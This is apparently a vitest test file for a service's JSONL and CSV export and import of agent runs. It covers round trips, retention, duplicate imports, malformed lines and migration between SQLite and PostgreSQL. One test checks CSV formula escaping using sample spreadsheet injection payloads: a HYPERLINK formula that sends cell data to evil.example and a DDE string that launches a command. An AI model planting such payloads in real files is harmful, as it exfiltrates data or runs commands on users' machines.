import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createTestApp, describeEachDb, dialects, type TestApp } from '../../test/harness.js';
import { T0, emptyDb, exportText, seed, tableRows } from '../../test/cli-fixtures.js';
import { countExport, type ExportOptions } from './export.js';
import { importRuns } from './import.js';
import { purgeEndedBefore } from '../retention/purge.js';

describeEachDb('export and import', (dialect) => {
  let source: TestApp;
  let text: string;

  beforeAll(async () => {
    source = await createTestApp(dialect);
    await seed(source, 'rt');
    text = await exportText(source.ctx.db);
  });
  afterAll(async () => {
    await source.close();
  });

  it('exports one JSONL line per run, oldest first, with its steps', () => {
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(13);
    const first = JSON.parse(lines[0]!) as { id: string; steps: { id: string }[] };
    expect(first.id).toBe('rt-run-0');
    expect(first.steps.map((s) => s.id)).toEqual(['rt-run-0-s1', 'rt-run-0-s2']);
  });

  it('gives back the same rows, rollups and export after an import into an empty database', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      const result = await importRuns(db, Readable.from([text]), { batchSize: 4 });
      expect(result).toMatchObject({ runs: 13, steps: 24, rejected: 0 });
      expect(await tableRows(db)).toEqual(await tableRows(source.ctx.db));
      expect(await exportText(db)).toBe(text);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('creates a project that keeps what it imports: retention does not delete a restore', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      // runs ended long before today, as in any backup
      await importRuns(db, Readable.from([text]), { batchSize: 4 });
      const project = await db.kysely
        .selectFrom('projects')
        .select('retention_days')
        .where('id', '=', 'default')
        .executeTakeFirstOrThrow();
      const oldestDays = (Date.now() - T0) / 86_400_000;
      expect(project.retention_days).toBeGreaterThan(oldestDays);
      const purged = await purgeEndedBefore(db, {
        projectId: 'default',
        before: Date.now() - project.retention_days * 86_400_000,
      });
      expect(purged.runs).toBe(0);
      // a project that was there keeps its own setting
      await db.kysely.updateTable('projects').set({ retention_days: 7 }).execute();
      await importRuns(db, Readable.from([text]));
      expect(
        (await db.kysely.selectFrom('projects').select('retention_days').executeTakeFirstOrThrow())
          .retention_days,
      ).toBe(7);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('changes nothing when the same file is imported twice', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      const once = await tableRows(db);
      await importRuns(db, Readable.from([text]), { batchSize: 3 });
      expect(await tableRows(db)).toEqual(once);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('keeps the stored steps of a run imported as the API answers it, without steps', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      const before = await tableRows(db);
      // rt-run-0 as GET /runs/:id gives it: no steps key, and a changed tag
      const line = JSON.parse(text.split('\n')[0]!) as Record<string, unknown>;
      delete line.steps;
      line.tags = ['fetched'];
      const result = await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
      expect(result).toMatchObject({ runs: 1, steps: 0, existing: 1 });
      const after = await tableRows(db);
      expect(after.steps).toEqual(before.steps);
      const run = after.runs.find((r) => r.id === 'rt-run-0')!;
      expect(JSON.parse(run.tags)).toEqual(['fetched']);
      // an empty list is a list: it does replace them
      line.steps = [];
      await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
      const emptied = await tableRows(db);
      expect(emptied.steps.filter((s) => s.run_id === 'rt-run-0')).toEqual([]);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('reports malformed lines by number and still imports the valid ones', async () => {
    const { db, database } = await emptyDb(dialect);
    const lines = text.trimEnd().split('\n');
    const broken = [
      lines[0],
      '{not json',
      lines[1],
      JSON.stringify({ ...JSON.parse(lines[2]!), started_at: 'yesterday' }),
      '',
      lines[3],
    ].join('\n');
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([broken]), {
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      expect(result).toMatchObject({ runs: 3, rejected: 2, lines: 6 });
      expect(rejects[0]).toBe('2: not valid JSON');
      expect(rejects[1]).toMatch(/^4: started_at: /);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('filters by agent and time window, and counts what it exports', async () => {
    const count = (opts: Partial<ExportOptions>) =>
      countExport(source.ctx.db, { projectId: 'default', format: 'jsonl', ...opts });
    const agentOnly = await exportText(source.ctx.db, { agentId: 'bug-triager' });
    const ids = agentOnly
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(['rt-run-0', 'rt-run-3', 'rt-run-6', 'rt-run-9']);
    expect(await count({ agentId: 'bug-triager' })).toBe(4);
    const range = { since: T0 + 3_600_000, until: T0 + 3 * 3_600_000 };
    const window = await exportText(source.ctx.db, range);
    expect(window.trimEnd().split('\n')).toHaveLength(2);
    expect(await count(range)).toBe(2);
    expect(await count({ ...range, agentId: 'bug-triager' })).toBe(0);
    expect(await count({})).toBe(13);
  });

  it('exports CSV with one quoted line per run', async () => {
    const csv = await exportText(source.ctx.db, { format: 'csv', agentId: 'writer' });
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^id,project_id,agent_id,status,/);
    expect(lines[1]).toMatch(/^rt-run-1,default,writer,failed,manual,n8n,/);
    expect(lines[1]).toContain(',it broke,');
  });

  it('writes recorded text that a spreadsheet would take for a formula as text', async () => {
    const events = [
      {
        type: 'run.end',
        run: {
          id: 'csv-formula',
          agent_id: 'csv-agent',
          status: 'failed',
          source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          user_id: "+cmd|' /C calc'!A0",
          tags: ['@SUM(1+1)', '=1+1'],
          error: { message: '-1+1' },
        },
      },
    ];
    expect((await source.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
    const csv = await exportText(source.ctx.db, { format: 'csv', agentId: 'csv-agent' });
    const cells = csv.trimEnd().split('\n')[1]!;
    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
    // the tags' cell is quoted: a ; does not start a cell where ; separates them
    expect(cells).toContain(`,"'@SUM(1+1);=1+1",`);
    expect(cells).toContain(`,'-1+1,`);
    await source.request('DELETE', '/api/v1/runs/csv-formula');
  });

  it('restores a run deleted lately: its id takes events again', async () => {
    const ingest = (events: unknown[]) => source.request('POST', '/api/v1/ingest', { events });
    expect(
      (await ingest([{ type: 'run.start', run: { id: 'restore-1', agent_id: 'a' } }])).statusCode,
    ).toBe(200);
    const line = (await exportText(source.ctx.db))
      .split('\n')
      .find((l) => l.includes('"id":"restore-1"'))!;
    expect((await source.request('DELETE', '/api/v1/runs/restore-1')).statusCode).toBe(204);
    const end = [{ type: 'run.end', run: { id: 'restore-1', status: 'succeeded' } }];
    expect((await ingest(end)).statusCode).toBe(207);
    await importRuns(source.ctx.db, Readable.from([`${line}\n`]));
    expect((await ingest(end)).statusCode).toBe(200);
    const run = await source.request('GET', '/api/v1/runs/restore-1');
    expect(JSON.parse(run.body)).toMatchObject({ status: 'succeeded', agent_id: 'a' });
    expect((await source.request('DELETE', '/api/v1/runs/restore-1')).statusCode).toBe(204);
  });
});

const bothDialects = dialects().length === 2;
(bothDialects ? describe : describe.skip)('export and import across dialects', () => {
  it('moves a history from SQLite to PostgreSQL and back unchanged', async () => {
    if (!inject('pgAvailable')) return;
    const source = await createTestApp('sqlite');
    const pgDb = await emptyDb('postgres');
    const back = await emptyDb('sqlite');
    try {
      await seed(source, 'x');
      const text = await exportText(source.ctx.db);
      await importRuns(pgDb.db, Readable.from([text]));
      expect(await tableRows(pgDb.db)).toEqual(await tableRows(source.ctx.db));
      const fromPg = await exportText(pgDb.db);
      expect(fromPg).toBe(text);
      await importRuns(back.db, Readable.from([fromPg]));
      expect(await exportText(back.db)).toBe(text);
    } finally {
      await source.close();
      for (const d of [pgDb, back]) {
        await d.db.close();
        await d.database.drop();
      }
    }
  });
});
